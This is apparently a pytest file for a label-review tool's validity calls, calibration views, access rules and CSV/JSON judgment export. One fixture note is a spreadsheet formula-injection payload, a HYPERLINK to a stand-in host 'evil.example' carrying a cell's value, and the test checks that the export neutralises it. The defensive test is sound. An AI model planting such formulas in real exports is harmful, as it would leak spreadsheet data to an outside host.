"""The second question per item (is the mutant a valid test?), calibration once a sample closes, a reviewer's
own version history, and the judgments export, on a real store (SQLite; the export also on PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import math

import pytest

from objrel import review as R
from objrel.access import ANONYMOUS, SERVER
from objrel.errors import NotAllowed
from objrel.review import accounts
from objrel.review.calibration import calibration
from objrel.review.coefficients import agreement_coefficients
from objrel.review.export import EXPORT_COLUMNS, judgment_export, to_csv, to_json
from objrel.review.queue import record_call
from objrel.review.roles import actor_of
from objrel.store import Store
from tests.review.test_review import make_run

REL = "MR-1"
ITEMS = [f"a{i:03d}" for i in range(6)]
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A1)'
# (alice's call, bob's call) per item: (verdict, reasons, validity)
CALLS = {
    "a000": (("tp", (), "valid"), ("tp", (), "valid")),
    "a001": (("tp", (), "invalid"), ("tp", (), "invalid")),                       # agreed invalid mutant
    "a002": (("fp", ("multiple-objects",), "valid"), ("fp", ("multiple-objects",), "invalid")),  # validity differs
    "a003": (("tp", (), "valid"), ("fp", ("incomplete-removal",), "valid")),      # carol decides: fp, invalid
    "a004": (("tp", (), None), ("tp", (), None)),
    "a005": (("uncertain", (), "unsure"), ("uncertain", (), "valid")),
}


@pytest.fixture(autouse=True)
def fast_scrypt(monkeypatch):
    monkeypatch.setattr(accounts, "SCRYPT_N", 2 ** 10)


def _team(store: Store) -> tuple[int, dict]:
    for name, roles in (("alice", [R.REVIEWER]), ("bob", [R.REVIEWER]), ("dave", [R.REVIEWER]),
                        ("carol", [R.ADJUDICATOR]), ("olga", [R.RUN_OPERATOR])):
        R.create_reviewer(store, name, f"{name}-passphrase", roles=roles)
    rid = make_run(store, mr1=ITEMS)
    assert R.draw_review_sample(SERVER, store, rid, REL) and R.sample_state(store, rid, REL).drawn == 6
    return rid, {n: actor_of(store, n) for n in ("alice", "bob", "dave", "carol", "olga")}


def _judge_all(store, rid, who, skip_last_bob=False):
    for sid, (ca, cb) in CALLS.items():
        v, r, val = ca
        note = FORMULA_NOTE if sid == "a000" else None
        record_call(who["alice"], store, rid, sid, REL, v, r, note, validity=val)
        if skip_last_bob and sid == ITEMS[-1]:
            continue
        v, r, val = cb
        record_call(who["bob"], store, rid, sid, REL, v, r, None, validity=val)


def test_validity_is_stored_with_the_call_its_versions_and_the_adjudication(store):
    rid, who = _team(store)
    j = R.record_judgment(who["alice"], store, rid, "a000", REL, "tp", validity="valid")
    assert j.validity == "valid"
    j = R.record_judgment(who["alice"], store, rid, "a000", REL, "fp", ["other"], "smear left", validity="invalid")
    assert (j.verdict, j.validity) == ("fp", "invalid")
    assert [x.validity for x in R.judgments(store, rid, REL, reviewer="alice")] == ["invalid"]
    hist = R.my_history(who["alice"], store, rid, "a000", REL)
    assert [(h.version, h.verdict, h.validity, h.note) for h in hist] == [(1, "tp", "valid", None),
                                                                          (2, "fp", "invalid", "smear left")]
    assert hist[0].reasons == () and hist[1].reasons == ("other",) and not hist[1].after_close
    assert hist[1].created_at.tzinfo is not None
    # my_history is the caller's own: bob has none on this item; a visitor has none at all
    assert R.my_history(who["bob"], store, rid, "a000", REL) == []
    with pytest.raises(NotAllowed):
        R.my_history(ANONYMOUS, store, rid, "a000", REL)
    with pytest.raises(ValueError, match="validity must be one of"):
        R.record_judgment(who["alice"], store, rid, "a000", REL, "tp", validity="broken")
    R.record_judgment(who["bob"], store, rid, "a000", REL, "tp", validity="valid")
    c = R.adjudicate(who["carol"], store, rid, "a000", REL, "tp", (), "object gone", validity="valid")
    assert c.validity == "valid"
    with pytest.raises(ValueError, match="validity must be one of"):
        R.adjudicate(who["carol"], store, rid, "a000", REL, "tp", (), validity="nope")


def test_invalid_mutants_leave_the_precision_and_are_counted_apart(store):
    rid, who = _team(store)
    _judge_all(store, rid, who)
    R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], "mask misses the tail",
                 validity="invalid")
    row = R.precision_table(store, [rid], REL).iloc[0]
    # decided: all six; invalid: a001 (both said invalid) and a003 (the adjudicator did); a002 stays (one said
    # valid, one invalid: not decided invalid), a005 stays (unsure / valid)
    assert row["invalid mutants"] == 2
    assert row["reviewed"] == 4
    assert (row["true positive"], row["false positive"], row["uncertain"]) == (2, 1, 1)
    assert row["true positive %"] == 50.0
    assert row["sample size"] == row["reviewed"] + row["invalid mutants"] + row["unresolved"] + row["pending"]
    decided = {c.sample_id: c.validity for c in R.consensus(store, rid, REL)}
    assert decided == {"a000": "valid", "a001": "invalid", "a002": None, "a003": "invalid", "a004": None,
                       "a005": None}


def test_validity_agreement_covers_the_items_both_gave_a_validity_call(store):
    rid, who = _team(store)
    _judge_all(store, rid, who)
    got = R.validity_agreement(store, rid, REL, "alice", "bob")
    both = [sid for sid, (a, b) in CALLS.items() if a[2] and b[2]]
    expected = agreement_coefficients([CALLS[s][0][2] for s in both], [CALLS[s][1][2] for s in both],
                                      categories=R.VALIDITY)
    assert got == expected and got.n == 5 and got.categories == R.VALIDITY
    assert got.observed == pytest.approx(3 / 5)


def test_calibration_waits_for_the_sample_to_close_then_shows_the_pair_what_happened(store):
    rid, who = _team(store)
    _judge_all(store, rid, who, skip_last_bob=True)
    R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], "mask misses the tail",
                 validity="invalid")
    with pytest.raises(NotAllowed, match="not closed yet.*1 of 2"):
        calibration(who["alice"], store, rid, REL)
    with pytest.raises(NotAllowed, match="not closed yet"):
        calibration(who["carol"], store, rid, REL)
    v, r, val = CALLS[ITEMS[-1]][1]
    record_call(who["bob"], store, rid, ITEMS[-1], REL, v, r, None, validity=val)

    cal = calibration(who["alice"], store, rid, REL)
    assert (cal.reviewer_a, cal.reviewer_b) == ("alice", "bob") and cal.state.closed
    pairs = [(CALLS[s][0][0], CALLS[s][1][0]) for s in ITEMS]
    assert cal.verdicts == agreement_coefficients([a for a, _ in pairs], [b for _, b in pairs])
    assert cal.verdicts.ac1.defined and cal.verdicts.pabak.has_interval
    assert cal.validity == R.validity_agreement(store, rid, REL, "alice", "bob")
    by_item = {d.sample_id: d for d in cal.disagreements}
    assert set(by_item) == {"a002", "a003", "a005"}
    d = by_item["a003"]
    assert (d.kind, d.verdict_a, d.verdict_b, d.reasons_b) == ("verdict", "tp", "fp", ("incomplete-removal",))
    assert (d.resolved_verdict, d.resolved_reasons, d.resolved_note, d.resolved_validity, d.resolved_by) == (
        "fp", ("incomplete-removal",), "mask misses the tail", "invalid", "carol")
    assert by_item["a002"].kind == "validity" and (by_item["a002"].validity_a, by_item["a002"].validity_b) == (
        "valid", "invalid")
    assert by_item["a002"].resolution_text == R.NOT_ADJUDICATED == "not adjudicated yet"
    assert (cal.adjudicated, cal.open_disagreements) == (1, 2)
    # bob sees it from his side; carol (adjudicator) sees the pair; dave (a reviewer who did not close it),
    # a run operator and a visitor are refused
    assert calibration(who["bob"], store, rid, REL).reviewer_a == "bob"
    assert calibration(who["carol"], store, rid, REL).reviewer_a == "alice"
    with pytest.raises(NotAllowed, match="not one of the two reviewers"):
        calibration(who["dave"], store, rid, REL)
    with pytest.raises(NotAllowed, match="not one of the two reviewers"):
        calibration(who["dave"], store, rid, REL, reviewers=("alice", "bob"))
    for outsider in (who["olga"], ANONYMOUS):
        with pytest.raises(NotAllowed):
            calibration(outsider, store, rid, REL)
    # the adjudication view of the disagreements is unchanged: validity-only differences are not listed there
    assert {d.sample_id for d in R.disagreements(store, rid, REL, "alice", "bob")} == {"a003"}


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _as_csv_cells(row: dict) -> dict:
    """A JSON row as the CSV writes it: reasons joined, None empty, numbers as text, formulas prefixed."""
    out = {}
    for k, v in row.items():
        if isinstance(v, list):
            v = "; ".join(v)
        v = "" if v is None else str(v)
        out[k] = "'" + v if v.startswith(("=", "+", "-", "@")) else v
    return out


def _check_export(store: Store, rid: int, who: dict) -> None:
    rows = judgment_export(SERVER, store)
    # every call, one row per item and reviewer
    assert {(r.item, r.reviewer) for r in rows} == {(s, n) for s in ITEMS for n in ("alice", "bob")}
    assert len(rows) == 12
    for r in rows:
        verdict, reasons, validity = CALLS[r.item][0 if r.reviewer == "alice" else 1]
        assert (r.run, r.relation, r.call, r.reasons, r.validity) == (rid, REL, verdict, reasons, validity)
        assert r.file == f"{r.item}.png" and r.version == 1 and r.run_name == "run m"
        assert r.time.endswith("+00:00")
    a003 = [r for r in rows if r.item == "a003"]
    assert all((r.adjudicator, r.adjudicated_call, r.adjudication_validity) == ("carol", "fp", "invalid")
               for r in a003)
    # the CSV parses into the JSON rows; the formula note is neutralised in the CSV only
    as_json = json.loads(to_json(rows))
    as_csv = _csv_rows(to_csv(rows))
    assert list(as_csv[0]) == list(EXPORT_COLUMNS)
    assert as_csv == [_as_csv_cells(r) for r in as_json]
    note = next(r for r in as_csv if r["item"] == "a000" and r["reviewer"] == "alice")["note"]
    assert note == "'" + FORMULA_NOTE
    assert next(r for r in as_json if r["item"] == "a000" and r["reviewer"] == "alice")["note"] == FORMULA_NOTE
    assert _csv_rows(to_csv([])) == [] and to_csv([]).strip() == ",".join(EXPORT_COLUMNS)


def test_export_holds_every_call_and_its_csv_equals_its_json(store):
    rid, who = _team(store)
    _judge_all(store, rid, who)
    R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], None, validity="invalid")
    _check_export(store, rid, who)
    assert judgment_export(who["carol"], store) == judgment_export(SERVER, store)
    assert judgment_export(SERVER, store, run_ids=[rid], relation="MR-2") == []
    with pytest.raises(ValueError, match="no run 999"):
        judgment_export(SERVER, store, run_ids=[999])


def test_export_on_postgresql(pg_url):
    store = Store(pg_url)
    try:
        rid, who = _team(store)
        _judge_all(store, rid, who)
        R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], None, validity="invalid")
        _check_export(store, rid, who)
    finally:
        store.dispose()


def test_a_reviewer_cannot_export_the_other_reviewers_hidden_calls(store):
    rid, who = _team(store)
    _judge_all(store, rid, who, skip_last_bob=True)
    # an adjudication before the sample closes would say that the two calls differ: hidden too
    R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], None, validity="invalid")
    record_call(who["dave"], store, rid, "a000", REL, "tp", validity="valid")
    mine = judgment_export(who["alice"], store)
    assert {r.reviewer for r in mine} == {"alice"} and len(mine) == 6
    assert all(r.adjudicator is None and r.adjudicated_call is None for r in mine)
    assert "bob" not in to_csv(mine) and "carol" not in to_json(mine)
    # once the sample closes, alice and bob get each other's rows and the adjudication; dave, who did not
    # close it, still gets only his own; a run operator and a visitor get nothing
    v, r, val = CALLS[ITEMS[-1]][1]
    record_call(who["bob"], store, rid, ITEMS[-1], REL, v, r, None, validity=val)
    closed = judgment_export(who["alice"], store)
    assert {r.reviewer for r in closed} == {"alice", "bob"} and len(closed) == 12
    assert {r.adjudicator for r in closed if r.item == "a003"} == {"carol"}
    dave = judgment_export(who["dave"], store)
    assert [(r.reviewer, r.item) for r in dave] == [("dave", "a000")]
    assert judgment_export(SERVER, store).__len__() == 13
    for outsider in (who["olga"], ANONYMOUS):
        with pytest.raises(NotAllowed):
            judgment_export(outsider, store)


def test_cli_exports_csv_and_json(store, tmp_path, capsys):
    from objrel.cli.main import main

    rid, who = _team(store)
    _judge_all(store, rid, who)
    assert main(["judgments", "export", "--store", store.url]) == 0
    out = capsys.readouterr().out
    assert _csv_rows(out) == _csv_rows(to_csv(judgment_export(SERVER, store)))
    target = tmp_path / "calls.json"
    assert main(["judgments", "export", "--store", store.url, "--run", str(rid), "--relation", REL,
                 "--format", "json", "--out", str(target)]) == 0
    assert "12 calls written" in capsys.readouterr().err
    assert json.loads(target.read_text()) == json.loads(to_json(judgment_export(SERVER, store)))
    assert main(["judgments", "export", "--store", store.url, "--run", "999"]) == 2
    assert "no run 999" in capsys.readouterr().err


def test_planner_and_coefficients_are_exported_from_the_package():
    assert R.items_for_width(0.4, "ac1", 0.7, prevalence=0.8) > 0
    assert not math.isnan(R.agreement_coefficients(["tp", "fp"], ["tp", "tp"]).ac1.value)


def test_a_closed_sample_shows_no_call_outside_it_and_no_decision_to_a_third_reviewer(store):
    """Found by a hostile visitor: once a sample closed, alice's export held bob's call on a flagged item
    outside the drawn sample (which she could still judge blind in the 'All flagged' queue), and dave, a third
    reviewer who did not close the sample, got carol's decision on an item he judged."""
    from sqlalchemy import delete

    from objrel.store import schema as S

    R.create_reviewer(store, "dave", "dave-passphrase", roles=[R.REVIEWER])
    for name, roles in (("alice", [R.REVIEWER]), ("bob", [R.REVIEWER]), ("carol", [R.ADJUDICATOR])):
        R.create_reviewer(store, name, f"{name}-passphrase", roles=roles)
    who = {n: actor_of(store, n) for n in ("alice", "bob", "carol", "dave")}
    rid = make_run(store, mr1=[*ITEMS, "z999"])
    R.draw_review_sample(SERVER, store, rid, REL)
    # a large run's draw leaves flagged items out (Cochran); here one is taken out of a small draw
    with store.engine.begin() as c:
        c.execute(delete(S.review_samples).where((S.review_samples.c.run_id == rid)
                                                 & (S.review_samples.c.sample_id == "z999")))
    _judge_all(store, rid, who)                                   # alice and bob close the six drawn items
    record_call(who["bob"], store, rid, "z999", REL, "fp", ["other"], "BOB-SECRET")   # outside the draw
    R.adjudicate(who["carol"], store, rid, "a003", REL, "fp", ["incomplete-removal"], "CAROL-DECISION")
    record_call(who["dave"], store, rid, "a003", REL, "tp")
    alice = judgment_export(who["alice"], store)
    assert ("bob", "z999") not in {(r.reviewer, r.item) for r in alice} and "BOB-SECRET" not in to_csv(alice)
    assert {r.adjudication_note for r in alice if r.item == "a003"} == {"CAROL-DECISION"}   # hers to see
    dave = judgment_export(who["dave"], store)
    assert [(r.reviewer, r.item, r.adjudicator) for r in dave] == [("dave", "a003", None)]
    assert "CAROL-DECISION" not in to_json(dave)
